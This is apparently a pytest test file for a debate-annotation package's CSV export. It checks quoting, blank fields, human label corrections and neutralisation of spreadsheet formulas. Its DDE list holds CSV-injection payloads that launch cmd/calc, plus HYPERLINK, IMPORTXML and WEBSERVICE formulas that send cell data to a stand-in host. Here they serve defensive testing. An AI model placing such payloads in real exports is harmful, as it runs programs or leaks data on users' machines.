from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from argmap.corrections import apply_edits
from argmap.export import to_csv
from argmap.records import Debate, Edit
from tests.samples import TEXT, sample_debate
from tests.strategies import debates


def rows(debate: Debate) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(to_csv(debate), newline="")))


def test_csv_has_one_row_a_statement_and_topic() -> None:
    debate = sample_debate()
    second = replace(debate.topics[0], id="strike", motion="Nurses should strike.")
    found = rows(replace(debate, topics=(*debate.topics, second)))
    assert [(row["statement"], row["motion"]) for row in found] == [
        (statement.id, topic.motion)
        for statement in debate.statements
        for topic in (debate.topics[0], second)
    ]


def test_csv_row_holds_the_statement_and_its_judgement() -> None:
    row = rows(sample_debate())[1]
    start = TEXT.index("“A rise")
    assert row == {
        "statement": "s2",
        "document": "Pay talks stall",
        "outlet": "The Example",
        "date": "2024-02-01",
        "start": str(start),
        "end": str(start + len("“A rise is not affordable,” the minister said.")),
        "speaker": "The minister",
        "reported": "false",
        "corrected": "false",
        "topic": "A larger pay rise",
        "motion": "Nurses should receive a larger pay rise.",
        "label": "con",
        "pro": "0.0600",
        "con": "0.8600",
        "none": "0.0800",
        "model_label": "con",
        "corrected_by": "",
        "corrected_at": "",
        "key_point": "“A rise is not affordable,” the minister said.",
        "model": "fake@0",
        "text": "“A rise is not affordable,” the minister said.",
    }


def test_csv_leaves_the_unknown_blank() -> None:
    debate = sample_debate()
    bare = replace(debate.documents[0], outlet=None, date=None)
    row = rows(replace(debate, documents=(bare,), stances=()))[2]
    assert (row["speaker"], row["outlet"], row["date"]) == ("", "", "")
    assert (row["label"], row["pro"], row["con"], row["none"]) == ("", "", "", "")
    assert (row["model_label"], row["corrected_by"], row["corrected_at"]) == ("", "", "")
    assert row["reported"] == "true"


def test_csv_has_a_persons_label_beside_the_models() -> None:
    edit = Edit.create(
        "label", sequence=1, time="2026-05-01T10:00:00+00:00", author="A. Reader",
        topic="pay", statements=("s2",), label="none",
    )  # fmt: skip
    row = rows(apply_edits(sample_debate(), (edit,)))[1]
    assert (row["label"], row["model_label"], row["con"]) == ("none", "con", "0.8600")
    assert (row["corrected_by"], row["corrected_at"]) == ("A. Reader", edit.time)
    assert row["key_point"] == ""


def test_csv_keeps_rfc_4180() -> None:
    debate = sample_debate()
    document = replace(debate.documents[0], title='A "quoted", title\nover two lines')
    text = to_csv(replace(debate, documents=(document,)))
    assert text.startswith("statement,document,outlet,date,")
    assert text.endswith("\r\n")
    assert '"A ""quoted"", title\nover two lines"' in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_csv_neutralises_formulas(start: str) -> None:
    debate = sample_debate()
    document = replace(debate.documents[0], title=f"{start}HYPERLINK(1)", outlet="a=b")
    row = rows(replace(debate, documents=(document,)))[0]
    assert row["document"] == f"'{start}HYPERLINK(1)"
    assert row["outlet"] == "a=b"


#: Calls of other programs, by dynamic data exchange and by functions that fetch.
DDE = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://a.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://a.example/",A2),"//a")',
    '=WEBSERVICE("http://a.example")',
)
_BEFORE = st.text("\t\r\n \xa0\x00\x0b\u200b\ufeff\u202e", max_size=3)


@settings(max_examples=60)
@given(_BEFORE, st.sampled_from(DDE))
def test_csv_neutralises_calls_of_other_programs_in_every_column(before: str, call: str) -> None:
    hostile = before + call
    debate = sample_debate()
    text = f"{hostile} "
    document = replace(debate.documents[0], text=text, title=hostile, outlet=hostile, turns=())
    speaker = replace(debate.speakers[0], name=hostile)
    topic = replace(debate.topics[0], title=hostile, motion=hostile)
    statement = replace(debate.statements[0], start=0, end=len(text), text=text)
    point = replace(debate.key_points[0], text=hostile, statements=("s1",))
    (row,) = rows(
        replace(
            debate,
            documents=(document,),
            speakers=(speaker,),
            topics=(topic,),
            statements=(statement,),
            key_points=(point,),
        )
    )
    for column in ("document", "outlet", "speaker", "topic", "motion", "key_point"):
        assert row[column] == f"'{hostile}"
    assert row["text"] == f"'{text}"


def test_csv_replaces_lone_surrogates() -> None:
    debate = sample_debate()
    document = replace(debate.documents[0], title="file\udcff.txt")
    text = to_csv(replace(debate, documents=(document,)))
    assert "file\ufffd.txt" in text.encode("utf-8").decode("utf-8")


@settings(max_examples=25, deadline=None)
@given(debates())
def test_csv_of_any_debate_reads_back_without_formulas(debate: Debate) -> None:
    found = rows(debate)
    assert len(found) == len(debate.statements) * len(debate.topics)
    for row in found:
        assert None not in row
        for cell in row.values():
            assert not cell.startswith(("\t", "\r", "\n"))
            assert not cell.strip().startswith(("=", "+", "-", "@"))
    texts = [statement.text for statement in debate.statements for _ in debate.topics]
    assert [row["text"] for row in found] == [
        f"'{text}" if row["text"] != text else text for row, text in zip(found, texts, strict=True)
    ]
